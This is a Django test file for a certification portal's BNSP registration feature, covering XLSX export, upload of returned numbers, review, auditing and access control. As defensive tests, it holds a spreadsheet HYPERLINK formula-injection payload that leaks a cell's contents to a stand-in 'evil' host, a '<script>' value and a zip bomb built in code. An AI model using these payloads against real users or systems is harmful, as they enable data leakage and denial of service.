"""BNSP registration: the LSP admin exports the request of a decision batch (XLSX, read back with openpyxl),
brings BNSP's numbers back (returned XLSX or typed), reviews them and records them; hostile files and rows are
refused with a reason and nothing else is lost; the numbers are printed and shown on the public page."""

import datetime
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from applicants.nik import make_nik
from assessments.certificates import services as certs
from assessments.certificates.models import Certificate
from assessments.certificates.services import bnsp
from certportal.audit.models import AuditEntry
from tests import module_world
from tests.applicants.factories import ProfileFactory
from tests.conftest import client_for

from .factories import EVENT_WORLD, decided_k

pytestmark = pytest.mark.django_db
BORN = datetime.date(1985, 3, 14)


@pytest.fixture(autouse=True)
def _lina_reads_english(lina):
    """The pages' messages are matched on their English source text (the catalogs are tested elsewhere)."""
    lina.preferred_language = "en"
    lina.save(update_fields=["preferred_language"])


def _issued() -> dict:
    """Both participants decided K, result letters and certificates issued; Alice has a NIK, Bob none yet."""
    w = decided_k()
    event, lina, alice = w["event"], w["lina"], w["alice"]
    ProfileFactory(user=alice, full_name="Alice Applicant", birth_date=BORN, gender="2", birth_place="Bandung",
                   nik=make_nik(BORN, "2", serial=7))
    w["issued"] = {}
    for p in event.participants.select_related("application__applicant"):
        certs.result_letter_issue(p, actor=lina)
        w["issued"][p.application.applicant.email.split("@")[0]] = certs.certificate_issue(p, actor=lina)
    return w


globals().update(module_world.shared(_issued, *EVENT_WORLD, "issued", language="en"))  # once a module


def _batch_query(event) -> str:
    return f"?event={event.pk}"


def _sheet(response):
    data = b"".join(response.streaming_content) if response.streaming else response.content
    return load_workbook(io.BytesIO(data)).worksheets[0]


def _answer(rows, header=None) -> SimpleUploadedFile:
    wb = Workbook()
    ws = wb.active
    ws.append(header or bnsp.HEADER)
    for cert_number, registration, blanko in rows:
        row = [""] * len(bnsp.HEADER)
        row[12], row[13], row[14] = cert_number, registration, blanko
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return SimpleUploadedFile("jawaban-bnsp.xlsx", out.getvalue())


def test_the_request_has_bnsps_columns_the_nik_and_neutralised_formulas(issued, event, lina):
    alice_cert = issued["alice"]
    Certificate.objects.filter(pk=alice_cert.pk).update(holder_name='=HYPERLINK("http://evil/?"&C2,"x")')
    response = client_for(lina).get(reverse("assessments:bnsp-export") + _batch_query(event))
    assert response.status_code == 200
    ws = _sheet(response)
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == bnsp.HEADER
    assert rows[0][:12] == ("No", "Nama Lengkap", "NIK", "Tempat Lahir", "Tanggal Lahir", "Kode Skema",
                            "Skema Sertifikasi", "Unit Kompetensi (kode)", "Tanggal Keputusan", "Nomor Keputusan",
                            "Asesor", "TUK")
    by_number = {r[12]: r for r in rows[1:]}
    alice = by_number[alice_cert.number]
    assert alice[1] == "'=HYPERLINK(\"http://evil/?\"&C2,\"x\")"  # text, never a formula
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    assert alice[2] == make_nik(BORN, "2", serial=7) and alice[3] == "Bandung"
    assert alice[4].date() == BORN
    assert alice[5] == alice_cert.scheme_code
    assert alice[7] == "; ".join(u["code"] for u in alice_cert.snapshot["units"])
    p = alice_cert.participant
    assert alice[8].date() == p.pleno.held_on  # decided in the event's pleno (the event is on a plan)
    assert alice[9] == p.pleno.decree_number
    assert alice[10].startswith("Asa") and alice[11] == event.test_site.name
    assert by_number[issued["bob"].number][2] is None  # Bob has no NIK yet: the cell is empty


def test_the_batch_page_masks_the_nik_and_warns_about_a_missing_one(issued, event, lina):
    page = client_for(lina).get(reverse("assessments:bnsp") + _batch_query(event)).content.decode()
    nik = make_nik(BORN, "2", serial=7)
    assert nik not in page and f"{nik[:4]}********{nik[12:]}" in page
    assert 'id="bnsp-missing-nik"' in page


def test_a_date_range_batch_holds_the_decisions_of_those_days(issued, lina):
    today = timezone.localdate()
    assert set(bnsp.batch_certificates(date_from=today, date_to=today)) == set(issued.values())
    assert not bnsp.batch_certificates(date_from=today - datetime.timedelta(days=9),
                                       date_to=today - datetime.timedelta(days=1)).exists()


def test_a_date_range_batch_takes_the_plenos_day_when_the_decision_was_taken_in_one(issued, lina):
    """Issue 30 item 7: the decision's date is the pleno's (the decree's) when there is one, as the request prints
    it; a decision without a pleno keeps the day it was recorded."""
    from assessments.events.models import Participant, Pleno

    today = timezone.localdate()
    held = today - datetime.timedelta(days=3)
    alice = issued["alice"]
    pleno = Pleno.objects.create(event=alice.participant.event, held_on=held, decree_number="SK/PLENO/3/2026")
    Participant.objects.filter(pk=alice.participant_id).update(pleno=pleno)
    assert set(bnsp.batch_certificates(date_from=held, date_to=held)) == {alice}
    assert set(bnsp.batch_certificates(date_from=today, date_to=today)) == {issued["bob"]}
    assert set(bnsp.batch_certificates(date_from=held, date_to=today)) == set(issued.values())
    response = client_for(lina).get(reverse("assessments:bnsp-export") + f"?date_from={held}&date_to={held}")
    rows = list(_sheet(response).iter_rows(values_only=True))[1:]
    assert [(r[12], r[8].date(), r[9]) for r in rows] == [(alice.number, held, "SK/PLENO/3/2026")]


def test_returned_numbers_are_reviewed_then_recorded_audited_printed_and_public(issued, lina):
    client = client_for(lina)
    alice, bob = issued["alice"], issued["bob"]
    upload = _answer([(alice.number, "REG-001/BNSP/2026", "BLK 0001"), (bob.number, "REG-002/BNSP/2026", "BLK 0002")])
    assert client.post(reverse("assessments:bnsp-upload"), {"file": upload}).status_code == 302
    review = client.get(reverse("assessments:bnsp-review"))
    assert "REG-001/BNSP/2026" in review.content.decode()
    alice.refresh_from_db()
    assert alice.bnsp_registration_number is None  # nothing before the confirmation
    client.post(reverse("assessments:bnsp-review"), {"apply": "1"})
    alice.refresh_from_db()
    assert (alice.bnsp_registration_number, alice.blanko_number) == ("REG-001/BNSP/2026", "BLK 0001")
    entry = AuditEntry.objects.get(action="assessments.certificate.bnsp_registered", object_id=str(alice.pk))
    assert entry.actor == lina and "REG-001/BNSP/2026" in entry.note and "jawaban-bnsp.xlsx" in entry.note
    assert alice.status == Certificate.Status.ISSUED
    public = Client().get(reverse("assessments:verify-json", kwargs={"code": alice.verification_code}))
    assert public.json()["bnsp_registration_number"] == "REG-001/BNSP/2026"
    assert public.json()["blanko_number"] == "BLK 0001"
    from tests.assessments.test_certificate_workflow import _pdf_text

    assert "REG-001/BNSP/2026" in _pdf_text(certs.certificate_pdf(alice))


def test_hostile_rows_are_refused_with_a_reason_and_the_good_ones_kept(issued, lina):
    alice, bob = issued["alice"], issued["bob"]
    rows = bnsp.check_rows([
        bnsp.Row(2, alice.number, "REG-9", "BLK-9"),
        bnsp.Row(3, "SERT-TIDAK-ADA", "REG-10", "BLK-10"),
        bnsp.Row(4, bob.number, '=HYPERLINK("http://evil")', "BLK-11"),
        bnsp.Row(5, bob.number, "REG-9", "BLK-12"),
        bnsp.Row(6, "", "", ""),
        bnsp.Row(7, bob.number, "X" * 500, "BLK-13"),
        bnsp.Row(8, bob.number, "<script>", "BLK-14"),
    ])
    messages = {r.line: " ".join(r.problems) for r in rows}
    assert messages[2] == ""
    assert "No certificate has the number “SERT-TIDAK-ADA”" in messages[3]
    assert "is a formula" in messages[4]
    assert "appears twice in this file" in messages[5]
    assert 6 not in messages  # an empty line is left out
    assert "500 characters long" in messages[7]
    assert "only letters, digits" in messages[8]
    done, refused = bnsp.rows_apply(rows, actor=lina, source="test")
    assert done == 1 and len(refused) == 5
    alice.refresh_from_db()
    bob.refresh_from_db()
    assert alice.bnsp_registration_number == "REG-9" and bob.bnsp_registration_number is None


def test_a_number_already_recorded_for_another_certificate_is_refused(issued, lina):
    alice, bob = issued["alice"], issued["bob"]
    bnsp.numbers_record(alice, actor=lina, registration="REG-1", blanko="BLK-1")
    (row,) = bnsp.check_rows([bnsp.Row(2, bob.number, "REG-1", "BLK-2")])
    assert row.problems == [f"The registration number REG-1 is already recorded for certificate {alice.number}."]
    (same,) = bnsp.check_rows([bnsp.Row(2, alice.number, "REG-1", "BLK-1")])
    assert same.unchanged and not same.problems


def test_a_withdrawn_certificate_is_not_registered(issued, lina):
    alice = certs.certificate_withdraw(issued["alice"], actor=lina, reason="Dokumen palsu.")
    (row,) = bnsp.check_rows([bnsp.Row(2, alice.number, "REG-1", "BLK-1")])
    assert row.problems == [f"Certificate {alice.number} is withdrawn: it is not registered."]


def test_numbers_typed_per_row_go_through_the_same_review(issued, event, lina):
    client = client_for(lina)
    alice = issued["alice"]
    response = client.post(reverse("assessments:bnsp-typed"), {"event": event.pk, f"reg-{alice.pk}": "REG-77",
                                                               f"blanko-{alice.pk}": "BLK-77"})
    assert response.status_code == 302 and response.url == reverse("assessments:bnsp-review")
    client.post(reverse("assessments:bnsp-review"), {"apply": "1"})
    alice.refresh_from_db()
    assert alice.bnsp_registration_number == "REG-77"


def test_cancelling_the_review_records_nothing(issued, lina):
    client = client_for(lina)
    client.post(reverse("assessments:bnsp-upload"), {"file": _answer([(issued["alice"].number, "R-1", "B-1")])})
    response = client.post(reverse("assessments:bnsp-review"), {"cancel": "1"}, follow=True)
    assert "nothing was recorded" in response.content.decode()
    assert not Certificate.objects.exclude(bnsp_registration_number=None).exists()


@pytest.mark.parametrize("name, content, message", [
    ("jawaban.xlsx", b"%PDF-1.4 not a workbook", "is not an Excel workbook"),
    ("jawaban.xlsx", b"PK\x03\x04 broken zip", "could not be read as an Excel workbook"),
])
def test_a_file_that_is_not_a_workbook_is_refused(issued, lina, name, content, message):
    response = client_for(lina).post(reverse("assessments:bnsp-upload"),
                                     {"file": SimpleUploadedFile(name, content)}, follow=True)
    assert message in response.content.decode()


def test_a_zip_bomb_and_a_huge_file_are_refused(issued, lina, settings):
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/worksheets/sheet1.xml", b"0" * (bnsp.MAX_UNPACKED + 1))
    response = client_for(lina).post(reverse("assessments:bnsp-upload"),
                                     {"file": SimpleUploadedFile("bom.xlsx", bomb.getvalue())}, follow=True)
    assert "unpacks to more than" in response.content.decode()
    settings.MAX_UPLOAD_MB = 0.001
    big = _answer([(issued["alice"].number, "R" + str(i), "B" + str(i)) for i in range(200)])
    response = client_for(lina).post(reverse("assessments:bnsp-upload"), {"file": big}, follow=True)
    assert "the limit is" in response.content.decode()


def test_a_workbook_without_the_number_columns_is_explained(issued, lina):
    upload = _answer([(issued["alice"].number, "R", "B")], header=["a", "b", "c"] + [""] * 12)
    response = client_for(lina).post(reverse("assessments:bnsp-upload"), {"file": upload}, follow=True)
    assert "The first row must name the columns" in response.content.decode()


@pytest.mark.parametrize("who", ["alice", "asa", "tono", "victor", "quinn"])
def test_only_the_lsp_admin_reaches_bnsp_registration(issued, event, who, request):
    user = request.getfixturevalue(who)
    client = client_for(user)
    for url in (reverse("assessments:bnsp"), reverse("assessments:bnsp-export") + _batch_query(event),
                reverse("assessments:bnsp-review")):
        assert client.get(url).status_code == 403
    assert client.post(reverse("assessments:bnsp-upload"), {}).status_code == 403
    assert client.post(reverse("assessments:bnsp-typed"), {}).status_code == 403


def test_anonymous_visitors_are_sent_to_log_in(issued, event):
    client = Client()
    for url in (reverse("assessments:bnsp"), reverse("assessments:bnsp-export") + _batch_query(event)):
        response = client.get(url)
        assert response.status_code == 302 and "next=" in response.url
